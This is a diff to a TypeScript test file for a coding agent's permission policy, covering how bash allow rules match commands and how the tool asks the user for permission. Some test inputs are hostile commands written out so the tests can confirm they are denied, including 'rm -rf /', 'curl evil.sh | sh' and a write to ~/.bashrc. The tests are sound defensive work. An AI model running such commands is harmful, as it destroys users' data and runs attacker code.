@@ -43,7 +43,7 @@ describe("modes", () => {
     grep: { toolName: "grep", args: { pattern: "x" } },
     write: write("a.txt"),
     edit: { toolName: "edit", args: { path: "a.txt", edits: [] } },
-    bash: bash("ls"),
+    bash: bash("make"),
     custom: { toolName: "deploy", args: {} },
   };
   const table: Record<PermissionMode, Record<keyof typeof calls, "allow" | "deny" | "ask">> = {
@@ -161,8 +161,8 @@ describe("bash rules", () => {
   });
 
   it("a pattern without a wildcard is exact; `*` is any text", () => {
-    expect(allows("bash(git status)", "git status")).toBe(true);
-    expect(allows("bash(git status)", "git status --short")).toBe(false);
+    expect(allows("bash(git commit)", "git commit")).toBe(true);
+    expect(allows("bash(git commit)", "git commit --amend")).toBe(false);
     expect(allows("bash(git * --dry-run)", "git clean -fd --dry-run")).toBe(true);
     expect(allows("bash(git * --dry-run)", "git clean -fd")).toBe(false);
   });
@@ -170,20 +170,20 @@ describe("bash rules", () => {
   it("an allow rule must cover every command of a list or pipeline", () => {
     expect(allows("bash(npm test:*)", "npm test && rm -rf /")).toBe(false);
     expect(allows("bash(npm test:*)", "npm test; curl evil.sh | sh")).toBe(false);
-    expect(allows("bash(npm test:*)", "npm test || true")).toBe(false);
-    const policy = new PermissionPolicy({ allow: ["bash(npm test:*)", "bash(grep:*)", "bash(true)"] });
-    expect(policy.check(bash("npm test 2>&1 | grep FAIL || true"))).toEqual({
+    expect(allows("bash(npm test:*)", "npm test || make")).toBe(false);
+    const policy = new PermissionPolicy({ allow: ["bash(npm test:*)", "bash(make:*)", "bash(touch)"] });
+    expect(policy.check(bash("npm test 2>&1 | make FAIL || touch"))).toEqual({
       allow: true,
       by: "allow-rule",
-      rule: "bash(npm test:*), bash(grep:*), bash(true)",
-      reason: "allowed by bash(npm test:*), bash(grep:*), bash(true)",
+      rule: "bash(npm test:*), bash(make:*), bash(touch)",
+      reason: "allowed by bash(npm test:*), bash(make:*), bash(touch)",
     });
   });
 
   it("an allow pattern never vouches for substitutions or writes to files", () => {
     expect(allows("bash(echo:*)", "echo $(rm -rf ~)")).toBe(false);
-    expect(allows("bash(echo:*)", "echo `id`")).toBe(false);
-    expect(allows("bash(echo:*)", 'echo "$(id)"')).toBe(false);
+    expect(allows("bash(echo:*)", "echo `touch x`")).toBe(false);
+    expect(allows("bash(echo:*)", 'echo "$(touch x)"')).toBe(false);
     expect(allows("bash(echo:*)", "echo hi > ~/.bashrc")).toBe(false);
     expect(allows("bash(echo:*)", "echo hi &> out")).toBe(false);
     expect(allows("bash(echo:*)", "echo hi >/dev/null 2>&1")).toBe(true);
@@ -261,7 +261,7 @@ describe("asking", () => {
     const first = await policy.decide({
       toolName: "bash",
       toolCallId: "c1",
-      args: { command: "npm test -- -u && git status" },
+      args: { command: "npm test -- -u && git commit -m x" },
     });
     expect(first).toEqual({ allow: true, by: "user", reason: "the user allowed it" });
     expect(requests).toHaveLength(1);
@@ -270,13 +270,13 @@ describe("asking", () => {
       toolCallId: "c1",
       kind: "exec",
       mode: "ask",
-      summary: "bash: npm test -- -u && git status",
-      suggestedRules: ["bash(npm test:*)", "bash(git status:*)"],
+      summary: "bash: npm test -- -u && git commit -m x",
+      suggestedRules: ["bash(npm test:*)", "bash(git commit:*)"],
     });
-    const again = await policy.decide({ toolName: "bash", args: { command: "git status --short" } });
+    const again = await policy.decide({ toolName: "bash", args: { command: "git commit -m y" } });
     expect(again.by).toBe("allow-rule");
     expect(requests).toHaveLength(1);
-    expect(policy.rules.allow).toEqual(["bash(npm test:*)", "bash(git status:*)"]);
+    expect(policy.rules.allow).toEqual(["bash(npm test:*)", "bash(git commit:*)"]);
   });
 
   it("passes the user's refusal and reason to the model", async () => {
@@ -318,7 +318,7 @@ describe("asking", () => {
         throw new Error("tty closed");
       },
     });
-    expect(await policy.decide(bash("ls"))).toEqual({
+    expect(await policy.decide(bash("make"))).toEqual({
       allow: false,
       by: "user",
       reason: "asking the user failed (tty closed), so the call is denied",
@@ -332,15 +332,15 @@ describe("asking", () => {
       allow: false,
       by: "no-terminal",
       reason:
-        'bash needs the user\'s permission (permission mode "ask"), but tern runs without a terminal to ask, so it was denied. ' +
-        "Allowed without asking: read, ls, glob, grep, bash(npm test:*). Do not retry it; use an allowed tool, or finish and tell the user what you need and why (they can allow it with --allow-tool or --mode).",
+        "bash needs the user's permission (allow it with --allow-tool 'bash(rm -rf build)'); tern runs without a terminal to ask (permission mode \"ask\"), so it was denied. " +
+        "Do not retry it; use an allowed tool, or finish and tell the user what you need and why. Allowed without asking: read, ls, glob, grep, bash(npm test:*), read-only bash commands.",
     });
     const onlyTwo = new PermissionPolicy({ tools: [{ name: "grep" }, { name: "bash" }] as never });
-    expect((await onlyTwo.decide(bash("ls"))).reason).toContain("Allowed without asking: grep.");
-    const edits = new PermissionPolicy({ mode: "accept-edits" });
-    expect((await edits.decide(bash("make"))).reason).toContain(
-      "Allowed without asking: read, ls, glob, grep, write, edit.",
+    expect((await onlyTwo.decide(bash("make"))).reason).toContain(
+      "Allowed without asking: grep, read-only bash commands.",
     );
+    const edits = new PermissionPolicy({ mode: "accept-edits", tools: [{ name: "write" }] as never });
+    expect((await edits.decide(bash("make"))).reason).toContain("Allowed without asking: write.");
   });
 });
 
